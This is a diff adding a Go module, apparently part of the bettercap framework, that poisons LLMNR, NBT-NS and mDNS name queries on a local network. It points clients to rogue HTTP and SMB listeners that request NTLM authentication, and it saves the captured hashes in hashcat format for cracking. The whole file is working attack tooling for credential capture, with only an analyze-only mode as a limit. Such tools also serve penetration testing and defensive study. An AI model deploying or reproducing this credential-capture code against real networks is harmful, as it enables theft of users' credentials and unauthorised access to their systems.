@@ -0,0 +1,293 @@
+package modules
+
+import (
+	"crypto/rand"
+	"encoding/hex"
+	"fmt"
+	"net"
+	"strings"
+	"sync"
+
+	"github.com/bettercap/bettercap/log"
+	"github.com/bettercap/bettercap/packets"
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/pcap"
+
+	"github.com/gobwas/glob"
+)
+
+var responderProtocols = []string{"llmnr", "nbns", "mdns"}
+
+// NetResponder answers the multicast and broadcast name resolution
+// queries of the hosts with the address of its HTTP and SMB listeners,
+// which ask the clients for their NTLM credentials.
+type NetResponder struct {
+	session.SessionModule
+	handle        *pcap.Handle
+	pktSourceChan chan gopacket.Packet
+	waitGroup     *sync.WaitGroup
+
+	names     []glob.Glob
+	address   net.IP
+	protocols map[string]bool
+	analyze   bool
+	challenge []byte
+	// the CHALLENGE message the listeners send
+	ntlmChallenge []byte
+	domain        string
+	computer      string
+	httpPort      int
+	smbPort       int
+
+	http   *responderHTTP
+	smb    *responderSMB
+	hashes *responderHashes
+}
+
+func NewNetResponder(s *session.Session) *NetResponder {
+	r := &NetResponder{
+		SessionModule: session.NewSessionModule("net.responder", s),
+		waitGroup:     &sync.WaitGroup{},
+		protocols:     make(map[string]bool),
+		hashes:        newResponderHashes(),
+	}
+
+	r.AddParam(session.NewStringParameter("net.responder.names",
+		"*",
+		"",
+		"Comma separated list of names (globs are supported) to answer the queries for."))
+
+	r.AddParam(session.NewStringParameter("net.responder.address",
+		session.ParamIfaceAddress,
+		session.IPv4Validator,
+		"IP address the names are resolved to, the HTTP and SMB listeners are bound to it as well."))
+
+	r.AddParam(session.NewStringParameter("net.responder.protocols",
+		strings.Join(responderProtocols, ","),
+		`^((llmnr|nbns|mdns)\s*,?\s*)*$`,
+		"Comma separated list of the name resolution protocols to answer, among llmnr, nbns and mdns."))
+
+	r.AddParam(session.NewBoolParameter("net.responder.analyze",
+		"false",
+		"If true, only log the queries which would be answered, without starting the HTTP and SMB listeners."))
+
+	r.AddParam(session.NewStringParameter("net.responder.challenge",
+		"",
+		`^([a-fA-F0-9]{16})?$`,
+		"NTLM server challenge as 16 hex digits, a random one is used if empty."))
+
+	r.AddParam(session.NewStringParameter("net.responder.domain",
+		"WORKGROUP",
+		"",
+		"NetBIOS domain name the listeners claim to be part of."))
+
+	r.AddParam(session.NewStringParameter("net.responder.computer",
+		"FILESRV",
+		"",
+		"NetBIOS computer name of the listeners."))
+
+	r.AddParam(session.NewIntParameter("net.responder.http.port",
+		"80",
+		"Port of the HTTP listener asking for NTLM authentication, 0 to disable it."))
+
+	r.AddParam(session.NewIntParameter("net.responder.smb.port",
+		"445",
+		"Port of the SMB listener asking for NTLM authentication, 0 to disable it."))
+
+	r.AddHandler(session.NewDangerousModuleHandler("net.responder on", "",
+		"Start answering name queries and capturing NTLM hashes.",
+		func(args []string) error {
+			return r.Start()
+		}))
+
+	r.AddHandler(session.NewModuleHandler("net.responder off", "",
+		"Stop answering name queries and capturing NTLM hashes.",
+		func(args []string) error {
+			return r.Stop()
+		}))
+
+	r.AddHandler(session.NewModuleHandler("net.responder.hashes", "",
+		"Show the NTLM hashes captured so far.",
+		func(args []string) error {
+			return r.hashes.Show()
+		}))
+
+	r.AddHandler(session.NewModuleHandler("net.responder.hashes.save FILE", `net\.responder\.hashes\.save\s+(.+)`,
+		"Save the NTLM hashes captured so far to FILE in hashcat format (modes 5500 and 5600).",
+		func(args []string) error {
+			return r.hashes.Save(args[0])
+		}))
+
+	return r
+}
+
+func (r *NetResponder) Name() string {
+	return "net.responder"
+}
+
+func (r *NetResponder) Description() string {
+	return "Answer LLMNR, NBT-NS and mDNS name queries with the address of rogue HTTP and SMB servers capturing the NTLM hashes of the clients."
+}
+
+func (r *NetResponder) Author() string {
+	return "Simone Margaritelli <evilsocket@protonmail.com>"
+}
+
+func (r *NetResponder) Configure() (err error) {
+	var names, protocols []string
+	var address, challenge string
+
+	if r.Running() {
+		return session.ErrAlreadyStarted
+	} else if err, names = r.ListParam("net.responder.names"); err != nil {
+		return
+	} else if err, address = r.StringParam("net.responder.address"); err != nil {
+		return
+	} else if err, protocols = r.ListParam("net.responder.protocols"); err != nil {
+		return
+	} else if err, r.analyze = r.BoolParam("net.responder.analyze"); err != nil {
+		return
+	} else if err, challenge = r.StringParam("net.responder.challenge"); err != nil {
+		return
+	} else if err, r.domain = r.StringParam("net.responder.domain"); err != nil {
+		return
+	} else if err, r.computer = r.StringParam("net.responder.computer"); err != nil {
+		return
+	} else if err, r.httpPort = r.IntParam("net.responder.http.port"); err != nil {
+		return
+	} else if err, r.smbPort = r.IntParam("net.responder.smb.port"); err != nil {
+		return
+	}
+
+	r.names = make([]glob.Glob, 0, len(names))
+	for _, name := range names {
+		if expr, err := glob.Compile(strings.ToLower(name)); err != nil {
+			return fmt.Errorf("'%s' is not a valid name glob expression: %s", name, err)
+		} else {
+			r.names = append(r.names, expr)
+		}
+	}
+
+	r.protocols = make(map[string]bool)
+	for _, proto := range protocols {
+		r.protocols[strings.ToLower(proto)] = true
+	}
+
+	if r.address = net.ParseIP(address).To4(); r.address == nil {
+		return fmt.Errorf("'%s' is not a valid IPv4 address.", address)
+	}
+
+	if challenge == "" {
+		r.challenge = make([]byte, 8)
+		if _, err = rand.Read(r.challenge); err != nil {
+			return
+		}
+	} else if r.challenge, err = hex.DecodeString(challenge); err != nil {
+		return
+	}
+
+	if r.handle, err = pcap.OpenLive(r.Session.Interface.Name(), 65536, true, pcap.BlockForever); err != nil {
+		return
+	} else if err = r.handle.SetBPFFilter(responderFilter); err != nil {
+		r.handle.Close()
+		return
+	}
+
+	return nil
+}
+
+// startListeners starts the HTTP and SMB servers the clients are sent
+// to, if enabled.
+func (r *NetResponder) startListeners() (err error) {
+	r.ntlmChallenge = packets.NewNTLMChallenge(r.challenge, r.domain, r.computer)
+	if r.analyze {
+		// nothing is answered, so nobody is going to connect
+		return nil
+	}
+
+	if r.httpPort > 0 {
+		if r.http, err = newResponderHTTP(r, fmt.Sprintf("%s:%d", r.address, r.httpPort)); err != nil {
+			return
+		}
+	}
+	if r.smbPort > 0 {
+		if r.smb, err = newResponderSMB(r, fmt.Sprintf("%s:%d", r.address, r.smbPort)); err != nil {
+			r.stopListeners()
+			return
+		}
+	}
+	return nil
+}
+
+func (r *NetResponder) stopListeners() {
+	if r.http != nil {
+		r.http.Close()
+		r.http = nil
+	}
+	if r.smb != nil {
+		r.smb.Close()
+		r.smb = nil
+	}
+}
+
+func (r *NetResponder) Start() error {
+	if err := r.Session.RequirePrivileges(r.Name(), session.CapNetRaw, session.CapNetAdmin); err != nil {
+		return err
+	} else if err := r.Session.CheckSafe(r.Name(), r.Session.Interface.Name()); err != nil {
+		return err
+	} else if err := r.Configure(); err != nil {
+		return err
+	} else if err := r.startListeners(); err != nil {
+		r.handle.Close()
+		return err
+	}
+
+	return r.SetRunning(true, func() {
+		r.waitGroup.Add(1)
+		defer r.waitGroup.Done()
+
+		log.Info("%s answering %s queries with %s (challenge %x).", r.Name(), strings.Join(r.enabledProtocols(), ", "), r.address, r.challenge)
+
+		src := gopacket.NewPacketSource(r.handle, r.handle.LinkType())
+		r.pktSourceChan = src.Packets()
+		for packet := range r.pktSourceChan {
+			if !r.Running() {
+				break
+			} else if packet != nil {
+				r.onPacket(packet)
+			}
+		}
+	})
+}
+
+func (r *NetResponder) Stop() error {
+	return r.SetRunning(false, func() {
+		r.pktSourceChan <- nil
+		r.handle.Close()
+		r.stopListeners()
+		r.waitGroup.Wait()
+	})
+}
+
+func (r *NetResponder) enabledProtocols() []string {
+	enabled := make([]string, 0)
+	for _, proto := range responderProtocols {
+		if r.protocols[proto] {
+			enabled = append(enabled, proto)
+		}
+	}
+	return enabled
+}
+
+// shouldAnswer returns true if name matches any of net.responder.names.
+func (r *NetResponder) shouldAnswer(name string) bool {
+	name = strings.ToLower(name)
+	for _, expr := range r.names {
+		if expr.Match(name) {
+			return true
+		}
+	}
+	return false
+}